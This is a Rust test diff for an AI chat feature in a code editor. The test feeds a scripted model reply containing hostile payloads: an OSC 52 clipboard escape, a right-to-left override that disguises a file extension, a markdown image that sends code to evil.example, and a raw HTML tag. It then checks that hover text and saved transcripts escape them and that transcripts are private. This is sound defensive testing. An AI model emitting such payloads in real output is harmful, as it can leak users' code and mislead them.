@@ -58,6 +58,49 @@ fn messages(editor: &Editor) -> Vec<String> {
 }
 
 #[test]
+fn what_a_model_says_neither_deceives_nor_loads_anything() {
+    let world = World::scripted();
+    let evil = "so: \u{1b}]52;c;aGk=\u{7} \u{202e}txt.exe ![](https://evil.example/?code)\n\n<img src=x>\n";
+    world.model.on("evil?", [Reply::answer(evil)]);
+    let editor = plain(&world);
+    let uri = world.uri("main.rs");
+    editor.open(&uri, CODE);
+    let submit = json!({"command": "backchat.submit", "arguments": [
+        {"textDocument": {"uri": uri}, "range": lines(0, 1), "prompt": "evil? \u{1b}[31m"},
+    ]});
+    execute(&editor, &submit);
+    let lens = wait_for_lens(&editor, &uri, "Read");
+    assert!(!lens.to_string().contains("\\u001b"), "{lens}");
+
+    let at = json!({"textDocument": {"uri": uri}, "position": {"line": 0, "character": 0}});
+    let hover: Value = editor.request("textDocument/hover", &at).unwrap();
+    let hover = hover["contents"]["value"].as_str().unwrap().to_owned();
+    execute(&editor, &lens["command"]);
+    let shown = editor.wait_for_request("window/showDocument", |it| it["uri"].is_string());
+    let path = url::Url::parse(shown["uri"].as_str().unwrap())
+        .unwrap()
+        .to_file_path()
+        .unwrap();
+    let transcript = std::fs::read_to_string(&path).unwrap();
+    for text in [&hover, &transcript] {
+        assert!(
+            text.contains("so: ␛]52;c;aGk=␇ \\u{202e}txt.exe"),
+            "{text:?}"
+        );
+        assert!(text.contains("\\![](https"), "{text:?}");
+        assert!(text.contains("\\<img"), "{text:?}");
+        assert!(text.contains("␛[31m"), "{text:?}");
+        assert!(!text.contains(['\u{1b}', '\u{202e}']), "{text:?}");
+    }
+    #[cfg(unix)]
+    {
+        use std::os::unix::fs::PermissionsExt as _;
+        let mode = std::fs::metadata(path).unwrap().permissions().mode() & 0o777;
+        assert_eq!(mode, 0o600, "a transcript is its owner's");
+    }
+}
+
+#[test]
 fn the_fallbacks_are_for_those_that_need_them() {
     let world = World::scripted();
     let offered = |editor: &Editor, name: &str| !editor.initialized["capabilities"][name].is_null();
